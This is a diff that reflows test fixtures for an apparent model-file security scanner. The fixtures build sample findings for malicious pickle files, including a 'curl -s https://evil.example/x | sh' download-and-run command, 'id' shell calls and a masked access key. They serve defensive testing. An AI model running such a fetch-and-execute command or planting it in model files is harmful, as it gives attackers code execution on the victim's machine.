@@ -118,14 +118,10 @@ def sample_report() -> Report:
         ),
         findings=(
             finding(CALL, inner, shell, "os.system('curl -s https://evil.example/x | sh')", offset=12),
-            finding(
-                CALL, inner, "Loading this file evaluates text as code.", "builtins.eval('1+1')", offset=99
-            ),
+            finding(CALL, inner, "Loading this file evaluates text as code.", "builtins.eval('1+1')", offset=99),
             finding(CALL, "models/copy-1.pkl", shell, "posix.system('id')", offset=3),
             finding(CALL, "models/copy-2.pkl", shell, "posix.system('id')", offset=3),
-            finding(
-                SECRET, "models/notes.txt", "An access key is stored here.", "AKIA****************", line=4
-            ),
+            finding(SECRET, "models/notes.txt", "An access key is stored here.", "AKIA****************", line=4),
             finding(
                 HIDDEN,
                 "models/weird!name.gguf",
@@ -149,9 +145,7 @@ def sample_report() -> Report:
 def sample_view(**changes: object) -> View:
     values: dict[str, object] = {
         "report": sample_report(),
-        "decision": Decision(
-            Verdict.DENY, ("5 findings are of severity high or above, which the policy refuses.",), 1
-        ),
+        "decision": Decision(Verdict.DENY, ("5 findings are of severity high or above, which the policy refuses.",), 1),
         "rules": RULES,
         "rule_help": HELPS,
         "command_line": "violet scan models --fail-on high",
@@ -168,9 +162,7 @@ def clean_view() -> View:
 def crowded_view(count: int = 500) -> View:
     """Many equal files, and one file with many different findings of one rule."""
     same = "Loading this file runs a shell command."
-    copies = [
-        finding(CALL, f"models/run-{n:04}.pkl", same, "os.system('id')", offset=3) for n in range(count)
-    ]
+    copies = [finding(CALL, f"models/run-{n:04}.pkl", same, "os.system('id')", offset=3) for n in range(count)]
     many = [
         finding(CALL, "models/many.pkl", f"Loading this file calls gadget number {n}.", f"g{n}()", offset=n)
         for n in range(count)
